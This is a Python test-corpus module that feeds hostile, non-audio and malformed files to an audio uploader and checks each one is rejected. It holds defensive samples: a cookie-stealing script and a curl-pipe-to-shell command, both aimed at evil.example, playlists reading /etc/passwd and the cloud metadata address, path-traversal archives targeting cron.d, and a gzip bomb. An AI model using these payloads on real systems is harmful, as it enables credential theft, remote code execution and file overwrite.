"""Files that are not audio, or not of a supported format, under any name."""

import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
from functools import partial

from app.errors import Kind
from testing.corpus.hostile import RATE, Files, Hostile, sound_file
from testing.corpus.mpeg import id3
from testing.sounds import encoded, noise

UNSUPPORTED, UNDECODABLE = Kind.UNSUPPORTED_AUDIO, Kind.UNDECODABLE_AUDIO

HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>\n" * 20
SHELL = b"#!/bin/sh\ncurl http://evil.example/ | sh\n"
PLAYLIST = (
    b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n"
    b"#EXTINF:10,\nhttp://169.254.169.254/latest/meta-data/\n#EXT-X-ENDLIST\n"
)
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0".ljust(60, b"\0") + b"\x80\0\0\0" + bytes(400)
ELF = b"\x7fELF\2\1\1" + bytes(400)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EBML = bytes.fromhex("1a45dfa3a34286810142f7810142f2810442f381084282847765626d")


def zipped(size: int = 2**20) -> bytes:
    """An archive of zeros."""
    return zip_of(bytes(size), zipfile.ZIP_DEFLATED)


def zip_of(data: bytes, method: int) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr(zipfile.ZipInfo("../../../../tmp/song.wav"), data, method)
    return file.getvalue()


def tarred() -> bytes:
    """An archive that climbs out of its folder."""
    return tar_of(SHELL)


def tar_of(data: bytes) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        member = tarfile.TarInfo("../../etc/cron.d/song")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return file.getvalue()


def mp4(brand: bytes) -> bytes:
    """The beginning of a file of the MPEG-4 family."""
    return struct.pack(">I4s4sI4s", 20, b"ftyp", brand, 0, b"isom") + bytes(2_000)


def other(container: str, codec: str | None = None) -> bytes:
    """A sound in a container that libsndfile reads and we do not."""
    return encoded(noise(RATE), RATE, container, codec)


NO_AUDIO = {
    "nothing": b"",
    "one byte": b"R",
    "zeros": bytes(4_096),
    "ones": b"\xff" * 4_096,
    "text": b"Never gonna give you up, never gonna let you down\n" * 40,
    "HTML": HTML,
    "a shell script": SHELL,
    "Python": b"import os\nos.system('id')\n",
    "a pickle": pickle.dumps({"audio": [1, 2, 3]}),
    "SVG": SVG,
    "PDF": b"%PDF-1.7\n" + bytes(1_000),
    "PNG": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(100),
    "GIF": b"GIF89a" + bytes(100),
    "a Windows program": PROGRAM,
    "a Linux program": ELF,
    "a ZIP": zipped(),
    "a gzip bomb": gzip.compress(bytes(10 * 2**20), mtime=0),
    "xz": lzma.compress(bytes(2**20)),
    "a tar": tarred(),
    "an HLS playlist": PLAYLIST,
    "a PLS playlist": b"[playlist]\nFile1=file:///etc/passwd\nNumberOfEntries=1\n",
    "a concat list": b"ffconcat version 1.0\nfile /etc/passwd\n",
    "MIDI": b"MThd\0\0\0\6\0\1\0\1\0\x60MTrk" + bytes(100),
    "AVI": b"RIFF\0\1\0\0AVI LIST" + bytes(500),
    "DSF": b"DSD " + bytes(500),
    "WebP": b"RIFF\0\1\0\0WEBPVP8 " + bytes(500),
    "UTF-16 text": "Never gonna give you up".encode("utf-16"),
}

BEGINNINGS = {
    "Matroska": EBML + bytes(500),
    "ASF": bytes.fromhex("3026b2758e66cf11a6d900aa0062ce6c") + bytes(500),
    "M4A": mp4(b"M4A "),
    "MP4": mp4(b"mp42"),
    "AC-3": b"\x0b\x77" + bytes(500),
    "AU": b".snd" + bytes(500),
    "FLV": b"FLV\1\5\0\0\0\x09" + bytes(500),
    "Musepack 8": b"MPCKSH" + bytes(500),
    "MPEG-PS": b"\0\0\1\xba" + bytes(500),
    "AAC": b"\xff\xf1\x50\x80\x02\x1f\xfc" * 100,
    "WavPack": b"wvpk" + bytes(500),
    "Monkey's Audio": b"MAC \x96\x0f" + bytes(500),
    "M4A behind an ID3 tag": id3(b"") + mp4(b"M4A "),
}
"""Of formats that we read, and nothing behind them."""

MAGIC_ONLY = {
    "RIFF": (b"RIFF", UNSUPPORTED),
    "RIFF WAVE": (b"RIFF\0\0\0\0WAVE", UNDECODABLE),
    "FORM AIFF": (b"FORM\0\0\0\0AIFF", UNDECODABLE),
    "FLAC": (b"fLaC", UNDECODABLE),
    "Ogg": (b"OggS", UNDECODABLE),
    "ID3": (b"ID3", UNSUPPORTED),
    "MPEG": (b"\xff\xfb", UNSUPPORTED),
}

BEHIND_A_TAG = {
    "HTML": HTML,
    "a ZIP": zipped(),
    "a Windows program": PROGRAM,
    "a playlist": PLAYLIST,
}

HOLDING_AUDIO = {
    "a stored ZIP": lambda: zip_of(sound_file("FLAC"), zipfile.ZIP_STORED),
    "a tar": lambda: tar_of(sound_file("FLAC")),
    "a Windows program": lambda: PROGRAM + sound_file("WAV"),
    "HTML": lambda: HTML + sound_file("FLAC"),
    "a PDF": lambda: b"%PDF-1.7\n" + sound_file("FLAC"),
}
"""Files that have audio in them, and are none."""

CONTAINERS = [
    "AVR",
    "HTK",
    "IRCAM",
    "MAT4",
    "MAT5",
    "MPC2K",
    "NIST",
    "PAF",
    "PVF",
    "SDS",
    "SVX",
    "VOC",
]
"""That libsndfile would read, and we do not."""

FILES: Files = {
    **{name: Hostile(UNSUPPORTED, partial(bytes, data)) for name, data in NO_AUDIO.items()},
    **{name: Hostile(UNDECODABLE, partial(bytes, data)) for name, data in BEGINNINGS.items()},
    "Musepack 7 of nothing": Hostile(Kind.SILENT_AUDIO, lambda: b"MP+\7" + bytes(500)),
    "AMR of nothing": Hostile(Kind.SILENT_AUDIO, lambda: b"#!AMR\n" + bytes(500)),
    **{
        f"magic only: {name}": Hostile(verdict, partial(bytes, data))
        for name, (data, verdict) in MAGIC_ONLY.items()
    },
    **{
        f"{name} behind an ID3 tag": Hostile(UNSUPPORTED, partial(bytes, id3(b"") + data))
        for name, data in BEHIND_A_TAG.items()
    },
    **{
        f"{name} with audio in it": Hostile(UNSUPPORTED, make)
        for name, make in HOLDING_AUDIO.items()
    },
    "words about audio": Hostile(
        UNSUPPORTED, lambda: b"About fLaC OggS RIFF WAVE ftyp FORM AIFF " * 99
    ),
    **{
        f"{container} of libsndfile": Hostile(UNSUPPORTED, partial(other, container))
        for container in CONTAINERS
    },
    "XI of libsndfile": Hostile(UNSUPPORTED, lambda: other("XI", "DPCM_16")),
    "raw samples": Hostile(UNSUPPORTED, lambda: b"\1\2" + other("RAW", "PCM_16")),
    "WAV of IMA ADPCM": Hostile(1.017, lambda: other("WAV", "IMA_ADPCM")),
    "WAV of MS ADPCM": Hostile(1.012, lambda: other("WAV", "MS_ADPCM")),
    "WAV of G.721": Hostile(UNSUPPORTED, lambda: other("WAV", "G721_32")),
    "WAV with a ZIP behind": Hostile(1.0, lambda: sound_file("WAV") + zipped()),
    "AU of libsndfile": Hostile(1.0, lambda: other("AU")),
    "CAF behind an ID3 tag": Hostile(1.0, lambda: id3(b"") + other("CAF")),
}
